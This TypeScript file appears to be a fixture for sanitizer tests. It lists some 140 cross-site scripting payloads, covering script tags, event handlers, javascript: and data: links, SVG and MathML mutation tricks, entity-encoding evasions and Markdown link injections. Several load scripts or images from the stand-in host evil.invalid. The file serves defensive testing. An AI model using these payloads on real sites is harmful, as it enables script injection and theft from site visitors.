// Texts that run something wherever they are taken for markup. Every one of them would set `window.__xss`, open a
// dialog or ask for an address below /xss; none may, wherever the site shows what people wrote.

export interface Payload {
  /** Says what is tried; unique, also as a part of a test's title. */
  name: string;
  text: string;
}

const RUN = 'window.__xss=1';
/** The same without a sign that has a meaning in Markdown or in an attribute. */
const RUN_ENCODED = 'window.__xss%3D1';
/** `javascript:` with every letter as an entity. */
const SCHEME_DECIMAL = [...'javascript:'].map((letter) => `&#${letter.charCodeAt(0)};`).join('');
const SCHEME_HEX = [...'javascript:'].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('');
const SCHEME_PADDED = [...'javascript:']
  .map((letter) => `&#${String(letter.charCodeAt(0)).padStart(7, '0')}`)
  .join('');
const DATA_PAGE = `data:text/html,<script>parent.${RUN};alert(1)</script>`;
const DATA_PAGE_BASE64 = `data:text/html;base64,${Buffer.from(`<script>parent.${RUN};alert(1)</script>`).toString('base64')}`;

/** Elements that run a script by themselves. */
const scripts: Payload[] = [
  { name: 'script', text: `<script>${RUN}</script>` },
  { name: 'script in capitals', text: `<SCRIPT>${RUN}</SCRIPT>` },
  { name: 'script in mixed case with a space', text: `<sCrIpT >${RUN}</ScRiPt\t>` },
  { name: 'script with an attribute glued on', text: `<script/x>${RUN}</script>` },
  { name: 'script from the site', text: '<script src="/xss/script.js"></script>' },
  { name: 'script from elsewhere', text: '<script src="//evil.invalid/xss.js"></script>' },
  { name: 'module script', text: `<script type="module">${RUN}</script>` },
  { name: 'script inside a script', text: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { name: 'script that is never closed', text: `<script>${RUN}//` },
  { name: 'script after a null byte', text: `<scr\u0000ipt>${RUN}</scr\u0000ipt>` },
  { name: 'script after a closed title', text: `</title><script>${RUN}</script>` },
  { name: 'script after a closed JSON element', text: `</script><script>${RUN}</script>` },
  { name: 'script after a comment that ends early', text: `<!--><script>${RUN}</script>-->` },
  { name: 'script after a comment in a comment', text: `<!--<!----!><script>${RUN}</script>` },
  { name: 'script in CDATA', text: `<![CDATA[<script>${RUN}</script>]]>` },
  { name: 'script in a processing instruction', text: `<?xml version="1.0"?><script>${RUN}</script>` },
  {
    name: 'script as an import map',
    text: '<script type="importmap">{"imports":{"react":"/xss/react.js"}}</script>',
  },
];

/** Attributes that run when something happens to their element, mostly by itself. */
const handlers: Payload[] = [
  { name: 'broken image', text: `<img src=x onerror=${RUN}>` },
  { name: 'broken image without quotes or spaces', text: `<img/src=x/onerror=${RUN}>` },
  { name: 'broken image in backticks', text: `<img src=\`x\`onerror=${RUN}>` },
  { name: 'broken image never closed', text: `<img src=x onerror="${RUN}" ` },
  { name: 'broken image in an attribute', text: `"><img src=x onerror="${RUN}">` },
  { name: 'broken image in a single-quoted attribute', text: `'><img src=x onerror='${RUN}'>` },
  {
    name: 'image whose handler is entities',
    text: '<img src=x onerror="&#119;&#105;&#110;&#100;&#111;&#119;.__xss=1">',
  },
  { name: 'image whose handler breaks lines', text: `<img src=x\nonerror\n=\n"${RUN}">` },
  { name: 'image split by a form feed', text: `<img\u000csrc=x\u000conerror=${RUN}>` },
  {
    name: 'image with a candidate list',
    text: `<img srcset="/xss/a.png 1x" onload="${RUN}" onerror="${RUN}">`,
  },
  { name: 'focus at once', text: `<input autofocus onfocus="${RUN}">` },
  { name: 'focus by an address', text: `<a id=x tabindex=1 onfocus="${RUN}" autofocus>x</a>` },
  { name: 'opened details', text: `<details open ontoggle="${RUN}"><summary>x</summary></details>` },
  { name: 'body that loads', text: `<body onload="${RUN}">` },
  { name: 'page that is shown', text: `<body onpageshow="${RUN}">` },
  { name: 'broken video', text: `<video onerror="${RUN}"><source onerror="${RUN}" src=x></video>` },
  { name: 'broken sound', text: `<audio src=x onerror="${RUN}"></audio>` },
  {
    name: 'animation that starts',
    text: `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${RUN}">x</b>`,
  },
  { name: 'pointer', text: `<b onpointerover="${RUN}" onmouseover="${RUN}" onclick="${RUN}">Komm her</b>` },
  { name: 'marquee', text: `<marquee onstart="${RUN}" loop=1>x</marquee>` },
  { name: 'object that fails', text: `<object data=x onerror="${RUN}"></object>` },
  { name: 'unknown element', text: `<xss autofocus tabindex=1 onfocus="${RUN}">x</xss>` },
  { name: 'template literal as a handler', text: '<img src=x onerror="Function`window.__xss=1```">' },
  { name: 'line separator before a handler', text: `<img src=x\u2028onerror=${RUN}>` },
  {
    name: 'popover',
    text: `<button popovertarget=x>x</button><b popover id=x onbeforetoggle="${RUN}">x</b>`,
  },
];

/** Addresses that run, as HTML links. */
const addresses: Payload[] = [
  { name: 'javascript link', text: `<a href="javascript:${RUN}">x</a>` },
  { name: 'javascript link in mixed case', text: `<a href="jAvAsCrIpT:${RUN}">x</a>` },
  { name: 'javascript link after a space', text: `<a href="  javascript:${RUN}">x</a>` },
  { name: 'javascript link after a control character', text: `<a href="\u0001javascript:${RUN}">x</a>` },
  { name: 'javascript link with a tab', text: `<a href="java\tscript:${RUN}">x</a>` },
  {
    name: 'javascript link with line breaks as entities',
    text: `<a href="java&#10;scr&#13;ipt:${RUN}">x</a>`,
  },
  { name: 'javascript link with named entities', text: `<a href="java&Tab;script&colon;${RUN}">x</a>` },
  { name: 'javascript link in decimal entities', text: `<a href="${SCHEME_DECIMAL}${RUN}">x</a>` },
  { name: 'javascript link in hex entities', text: `<a href="${SCHEME_HEX}${RUN}">x</a>` },
  { name: 'javascript link in padded entities', text: `<a href="${SCHEME_PADDED}${RUN}">x</a>` },
  {
    name: 'javascript link with a comment that looks like a host',
    text: `<a href="javascript://duellwerk.de/%0a${RUN}">x</a>`,
  },
  { name: 'vbscript link', text: '<a href="vbscript:MsgBox(1)">x</a>' },
  { name: 'data link', text: `<a href="${DATA_PAGE_BASE64}">x</a>` },
  { name: 'link to a host without a scheme', text: '<a href="//evil.invalid/xss">x</a>' },
  { name: 'link to a host by backslashes', text: '<a href="/\\evil.invalid/xss">x</a>' },
];

/** Elements that load, send or lead elsewhere. */
const carriers: Payload[] = [
  { name: 'frame of a script', text: `<iframe src="javascript:parent.${RUN}"></iframe>` },
  { name: 'frame of a document', text: `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>` },
  { name: 'frame of data', text: `<iframe src="${DATA_PAGE_BASE64}"></iframe>` },
  { name: 'embedded script', text: `<embed src="javascript:${RUN}">` },
  { name: 'object of data', text: `<object data="${DATA_PAGE_BASE64}"></object>` },
  { name: 'refresh to a script', text: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">` },
  { name: 'refresh to elsewhere', text: '<meta http-equiv="refresh" content="0;url=/xss/refreshed">' },
  { name: 'refresh to data', text: `<meta http-equiv="refresh" content="0;url=${DATA_PAGE_BASE64}">` },
  { name: 'base that moves every address', text: '<base href="//evil.invalid/xss/">' },
  { name: 'style sheet', text: '<link rel="stylesheet" href="/xss/style.css">' },
  { name: 'prefetched page', text: '<link rel="prefetch" href="/xss/prefetch">' },
  { name: 'style with an address', text: '<style>main{background:url(/xss/background)}</style>' },
  { name: 'style that imports', text: '<style>@import "/xss/import.css";</style>' },
  { name: 'style attribute with an address', text: '<b style="background:url(/xss/attribute)">x</b>' },
  {
    name: 'style attribute that covers the page',
    text: `<a style="position:fixed;inset:0" href="javascript:${RUN}">x</a>`,
  },
  {
    name: 'form that sends to a script',
    text: `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  },
  {
    name: 'button with its own action',
    text: `<form><button formaction="javascript:${RUN}">x</button></form>`,
  },
  { name: 'input that is a picture', text: '<input type="image" src="/xss/input.png">' },
  { name: 'picture that reports', text: '<img src="/xss/pixel.png">' },
  { name: 'picture from elsewhere', text: '<img src="https://evil.invalid/xss.png">' },
  {
    name: 'shadow root',
    text: `<div><template shadowrootmode="open"><img src=x onerror="${RUN}"></template></div>`,
  },
  {
    name: 'names that cover the document’s',
    text: '<form id="__xss" name="cookie"><input name="attributes"><input name="parentNode"></form>',
  },
  {
    name: 'names that cover the page’s data',
    text: '<a id="composition"></a><a id="served"></a><div id="root"></div><form name="getElementById"></form>',
  },
];

/** Foreign content, and markup that becomes another when it is written and read again. */
const mutations: Payload[] = [
  { name: 'svg that loads', text: `<svg onload="${RUN}"></svg>` },
  { name: 'svg script', text: `<svg><script>${RUN}</script></svg>` },
  { name: 'svg script with an address', text: '<svg><script href="/xss/svg.js" /></svg>' },
  {
    name: 'svg that animates an address',
    text: `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text x=20 y=20>x</text></a></svg>`,
  },
  {
    name: 'svg that sets a handler',
    text: `<svg><set attributeName="onmouseover" to="${RUN}" begin="0s" onbegin="${RUN}"/></svg>`,
  },
  {
    name: 'svg that uses data',
    text: '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>window.__xss=1</script></svg>#x" /></svg>',
  },
  {
    name: 'svg with foreign content',
    text: `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  },
  {
    name: 'mathml link',
    text: `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  },
  {
    name: 'mathml with a style that ends',
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  },
  { name: 'svg style that mutates', text: `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">` },
  { name: 'noscript that mutates', text: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  {
    name: 'textarea that ends in a title',
    text: `<textarea><b title="</textarea><img src=x onerror=${RUN}>">`,
  },
  { name: 'noembed that ends in a title', text: `<noembed><b title="</noembed><img src=x onerror=${RUN}>">` },
  {
    name: 'template in a select',
    text: `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  },
  {
    name: 'form in a form',
    text: `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  },
  { name: 'listing with a namespace', text: `<xmp><b title="</xmp><img src=x onerror=${RUN}>">` },
  { name: 'deeply nested elements', text: `${'<b>'.repeat(60)}<img src=x onerror=${RUN}>` },
  { name: 'markup as entities', text: `&lt;img src=x onerror=${RUN}&gt;` },
  { name: 'markup as entities of entities', text: `&amp;lt;img src=x onerror=${RUN}&amp;gt;` },
  { name: 'markup as escapes', text: `\\u003cimg src=x onerror=${RUN}\\u003e` },
  { name: 'full-width signs', text: `＜img src=x onerror=${RUN}＞` },
  { name: 'direction override', text: `\u202e<img src=x onerror=${RUN}>\u202c` },
  {
    name: 'template expressions',
    text: `{{constructor.constructor("${RUN}")()}} \${${RUN}} <%= ${RUN} %> #{${RUN}}`,
  },
  { name: 'end of a JSON text', text: `"}]}</script><img src=x onerror=${RUN}>\u2028${RUN}\u2029` },
];

/** What Markdown makes links and pictures of. */
const markdown: Payload[] = [
  { name: 'Markdown link', text: `[x](javascript:${RUN_ENCODED})` },
  { name: 'Markdown link in mixed case', text: `[x](JaVaScRiPt:${RUN_ENCODED})` },
  { name: 'Markdown link in angle brackets', text: `[x](<javascript:${RUN}>)` },
  { name: 'Markdown link with an entity', text: `[x](javascript&colon;${RUN_ENCODED})` },
  { name: 'Markdown link in entities', text: `[x](${SCHEME_DECIMAL}${RUN_ENCODED})` },
  { name: 'Markdown link with a tab', text: `[x](<java\tscript:${RUN}>)` },
  { name: 'Markdown link with a tab as an entity', text: `[x](java&#9;script:${RUN_ENCODED})` },
  { name: 'Markdown link after a control character', text: `[x](&#1;javascript:${RUN_ENCODED})` },
  { name: 'Markdown link of vbscript', text: '[x](vbscript:MsgBox%281%29)' },
  { name: 'Markdown link of data', text: `[x](<${DATA_PAGE}>)` },
  { name: 'Markdown link of a blob', text: '[x](blob:https://evil.invalid/xss)' },
  { name: 'Markdown link to a host without a scheme', text: '[x](//evil.invalid/xss)' },
  { name: 'Markdown link to a host by a backslash', text: '[x](/\\\\evil.invalid/xss)' },
  { name: 'Markdown link to a host by a tab', text: '[x](/&#9;/evil.invalid/xss)' },
  { name: 'Markdown link whose title breaks out', text: `[x](/ "\\"onmouseover=\\"${RUN}")` },
  { name: 'Markdown link whose address breaks out', text: `[x](https://x.invalid/"onmouseover="${RUN})` },
  { name: 'Markdown link by reference', text: `[x][r]\n\n[r]: javascript:${RUN_ENCODED}` },
  {
    name: 'Markdown link by a reference with a broken line',
    text: `[x]\n\n[x]:\n<javascript:${RUN}>\n'title'`,
  },
  { name: 'Markdown autolink', text: `<javascript:${RUN}>` },
  { name: 'Markdown autolink of data', text: `<${DATA_PAGE_BASE64}>` },
  { name: 'Markdown address with a handler', text: `https://x.invalid/"onmouseover="${RUN}` },
  { name: 'Markdown picture', text: `![x](javascript:${RUN_ENCODED})` },
  {
    name: 'Markdown picture of data',
    text: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  },
  { name: 'Markdown picture that breaks out', text: `![x"onerror="${RUN}](x)` },
  { name: 'Markdown picture whose title breaks out', text: `![x](x '"onerror="${RUN}')` },
  { name: 'Markdown picture from elsewhere', text: '![x](https://evil.invalid/xss.png)' },
  { name: 'Markdown picture without a scheme', text: '![x](//evil.invalid/xss.png)' },
  { name: 'Markdown picture as a link', text: `[![x](x)](javascript:${RUN_ENCODED})` },
  {
    name: 'Markdown code with a language that breaks out',
    text: `\`\`\`"><img/src=x/onerror=${RUN}>\nx\n\`\`\``,
  },
  { name: 'Markdown heading with markup', text: `# <img src=x onerror=${RUN}>` },
  {
    name: 'Markdown table with markup',
    text: `| a | b |\n| - | - |\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN_ENCODED}) |`,
  },
  { name: 'Markdown block of HTML', text: `<div>\n\n**x**\n\n<script>${RUN}</script>\n\n</div>` },
  {
    name: 'Markdown footnote',
    text: `x[^"><img src=x onerror=${RUN}>]\n\n[^"><img src=x onerror=${RUN}>]: y`,
  },
  { name: 'Markdown around a tag', text: `<img **src=x** onerror=${RUN}>` },
];

/** All of them. */
export const payloads: readonly Payload[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...carriers,
  ...mutations,
  ...markdown,
];
